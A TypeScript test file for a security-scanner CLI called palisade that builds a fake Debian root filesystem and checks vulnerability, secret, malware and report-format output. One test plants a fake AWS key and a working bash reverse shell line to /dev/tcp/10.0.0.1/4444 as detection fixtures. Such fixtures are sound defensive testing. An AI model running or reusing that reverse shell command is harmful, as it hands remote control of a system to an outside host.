// The CLI as users run it: bin/palisade.js over the built bundle (dist/bundle, written by `npm run build`,
// which `npm ci` runs through `prepare`). Data files (schema, rules, the vulnerability snapshot) must be
// found from the bundle as from the sources. Skips when the package is not built.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { fileURLToPath } from 'node:url';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const BIN = join(ROOT, 'bin/palisade.js');
const built = existsSync(join(ROOT, 'dist/bundle/palisade.mjs'));
const skip = built ? false : 'dist/bundle/palisade.mjs not built (run npm run build)';
const tmp = mkdtempSync(join(tmpdir(), 'pal-cli-'));
after(() => rmSync(tmp, { recursive: true, force: true }));

function run(args: string[]) {
  return spawnSync(process.execPath, [BIN, ...args], { encoding: 'utf8', timeout: 120_000 });
}

/** A minimal bookworm root filesystem with one old openssl package, under tmp/NAME. */
function debianRootfs(name: string): string {
  const root = join(tmp, name);
  mkdirSync(join(root, 'etc'), { recursive: true });
  mkdirSync(join(root, 'var/lib/dpkg'), { recursive: true });
  writeFileSync(join(root, 'etc/os-release'), 'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n');
  writeFileSync(
    join(root, 'var/lib/dpkg/status'),
    'Package: openssl\nStatus: install ok installed\nArchitecture: amd64\nVersion: 3.0.0-1\n\n',
  );
  return root;
}

test('--version prints the package version', { skip }, () => {
  const r = run(['--version']);
  assert.equal(r.status, 0, r.stderr);
  assert.match(r.stdout, /\d+\.\d+\.\d+/);
});

test('a rootfs scan with every image scanner works from the bundle', { skip }, () => {
  const root = debianRootfs('rootfs');
  // a fake token of AWS's documented example format, and a script with a reverse shell
  writeFileSync(join(root, 'etc/app.env'), 'AWS_ACCESS_KEY_ID=AKIAZ7QXHS2EXAMPLQ3P\n');
  writeFileSync(join(root, 'etc/rc.sh'), '#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n');
  const out = join(tmp, 'report.json');
  const r = run(['rootfs', root, '--scanners', 'vuln,secret,malware,misconfig', '-f', 'json', '-o', out]);
  assert.ok(r.status === 0 || r.status === 1, `exit ${r.status}: ${r.stderr}`);
  const report = JSON.parse(readFileSync(out, 'utf8')) as {
    packages: { name: string }[];
    findings: { kind: string }[];
  };
  assert.ok(report.packages.some((p) => p.name === 'openssl'));
  const kinds = new Set(report.findings.map((f) => f.kind));
  assert.ok(kinds.has('vulnerability'), 'openssl 3.0.0 has known vulnerabilities in the snapshot');
  assert.ok(kinds.has('malware'), 'reverse shell found');
});

test('every report format renders from the bundle (each writer is a lazily loaded chunk)', { skip }, () => {
  const root = debianRootfs('rootfs-formats');
  const files: Record<string, string> = {
    json: 'r.json',
    sarif: 'r.sarif',
    cyclonedx: 'r.cdx.json',
    spdx: 'r.spdx.json',
    junit: 'r.junit.xml',
    markdown: 'r.md',
    html: 'r.html',
    template: 'r.csv',
  };
  const outs = Object.entries(files).flatMap(([f, name]) => ['-o', `${f}=${join(tmp, name)}`]);
  const template = join(ROOT, 'docs/templates/csv.liquid');
  const r = run(['rootfs', root, '--scanners', 'vuln', '-q', '--template', template, ...outs]);
  assert.ok(r.status === 0 || r.status === 1, `exit ${r.status}: ${r.stderr}`);
  assert.match(r.stdout, /openssl/, 'the table on stdout');
  for (const [f, name] of Object.entries(files))
    assert.ok(readFileSync(join(tmp, name), 'utf8').length > 100, `${f} written`);
  assert.equal(JSON.parse(readFileSync(join(tmp, 'r.cdx.json'), 'utf8')).bomFormat, 'CycloneDX');
  assert.equal(JSON.parse(readFileSync(join(tmp, 'r.sarif'), 'utf8')).version, '2.1.0');
});
